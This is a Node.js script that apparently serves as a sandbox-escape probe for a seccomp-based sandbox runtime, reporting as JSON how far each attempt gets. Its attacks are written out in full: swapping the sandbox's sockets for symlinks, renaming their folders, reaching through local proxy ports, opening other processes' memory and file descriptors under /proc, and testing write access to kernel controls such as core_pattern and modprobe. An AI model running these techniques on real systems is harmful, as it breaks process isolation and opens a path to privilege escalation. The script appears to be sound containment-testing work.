/**
 * Tries to escape from its sandbox through the sandbox's own sockets and processes. The argument is the socket to
 * reach; it prints, as JSON, what it has tried and how far it got.
 */
const { closeSync, lstatSync, openSync, readdirSync, readFileSync, readlinkSync, renameSync, symlinkSync, unlinkSync } =
  require('node:fs');
const { connect } = require('node:net');
const { join } = require('node:path');

const [target] = process.argv.slice(2);

/** The folders in which the sandbox runtime has ever had its sockets. */
function places() {
  const parent = `/tmp/ralph-${process.getuid()}`;
  return [process.env.TMPDIR, ...list(parent).map((name) => join(parent, name))].filter(Boolean);
}

function list(folder) {
  try {
    return readdirSync(folder);
  } catch {
    return [];
  }
}

function attempt(act) {
  try {
    act();
    return 'done';
  } catch (error) {
    return error.code;
  }
}

function opens(path, flags) {
  return attempt(() => closeSync(openSync(path, flags))) === 'done';
}

/** The text of a file; empty if it cannot be read, or its process has ended. */
function text(path) {
  try {
    return readFileSync(path, 'utf8').trim();
  } catch {
    return '';
  }
}

/** Tries to put a link to the target in the place of each socket, and to move its folder away. */
function exchangeSockets() {
  const found = places().flatMap((folder) => list(folder).map((name) => join(folder, name)));
  const sockets = found.filter((path) => lstatSync(path).isSocket());
  return sockets.map((path) => {
    const folder = attempt(() => renameSync(join(path, '..'), `${join(path, '..')}.old`));
    const link = attempt(() => {
      symlinkSync(target, `${path}.link`);
      renameSync(`${path}.link`, path);
    });
    const gone = link === 'done' ? [] : [attempt(() => unlinkSync(path))];
    return {
      name: path
        .split('/')
        .pop()
        .replace(/[-_].*/, ''),
      outcomes: [...new Set([folder, link, ...gone])],
    };
  });
}

/** Connects through the listener of the bridge: the target would answer with a greeting. */
function ask(port) {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => socket.write('GET / HTTP/1.0\r\n\r\n'));
    socket.on('data', (chunk) => resolve(String(chunk).split('\r\n')[0].trim()));
    socket.on('error', ({ code }) => resolve(code));
    socket.on('close', () => resolve('closed'));
  });
}

/** Its own threads, and its parent processes up to the one that put them into the sandbox. */
function lineage() {
  const pids = new Set(list('/proc/self/task'));
  let pid = readlinkSync('/proc/self');
  while (!/^[^\0]*\/apply-seccomp\0/.test(readFileSync(`/proc/${pid}/cmdline`, 'utf8'))) {
    pids.add(pid);
    pid = /^PPid:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))[1];
  }
  return pids;
}

const OPENED = ['mem', 'root/', 'cwd/', 'exe', 'ns/user', 'ns/mnt'];
/** Some of these can be opened by any program of the same user, but are empty. */
const READ = ['environ', 'auxv', 'maps', 'stack', 'syscall'];

/** What can be opened of a process that is not ours, even of one that is not listed. */
function openedOf(pid) {
  const opened = [
    ...OPENED.filter((name) => opens(`/proc/${pid}/${name}`, 'r')),
    ...READ.filter((name) => text(`/proc/${pid}/${name}`) !== ''),
  ];
  const written = opens(`/proc/${pid}/mem`, 'r+') ? ['mem for writing'] : [];
  const links = list(`/proc/${pid}/fd`).filter((fd) => attempt(() => readlinkSync(`/proc/${pid}/fd/${fd}`)) === 'done');
  return [...opened, ...written, ...links.map((fd) => `fd/${fd}`)].map((name) => `${pid}/${name}`);
}

function others() {
  const own = lineage();
  const listed = list('/proc').filter((name) => /^\d+$/.test(name));
  const guessed = Array.from({ length: 200 }, (_, index) => String(index + 1));
  const pids = [...new Set([...listed, ...guessed])].filter((pid) => !own.has(pid));
  const seen = listed.filter((pid) => pid !== '1' && !own.has(pid));
  return {
    seen: seen.map((pid) => `${pid} ${text(`/proc/${pid}/comm`)}`),
    opened: pids.flatMap(openedOf),
  };
}

/** The kernel settings that can be opened for writing. */
function settings() {
  const files = ['kernel/core_pattern', 'kernel/modprobe', 'vm/drop_caches'].map((name) => `/proc/sys/${name}`);
  const orders = [...files, '/proc/sysrq-trigger', '/proc/irq/default_smp_affinity', '/proc/mtrr'];
  return orders.filter((path) => opens(path, 'r+'));
}

async function attack() {
  const sockets = exchangeSockets();
  const answers = [await ask(3128), await ask(1080)];
  console.log(JSON.stringify({ sockets, answers, ...others(), settings: settings() }));
}

void attack();
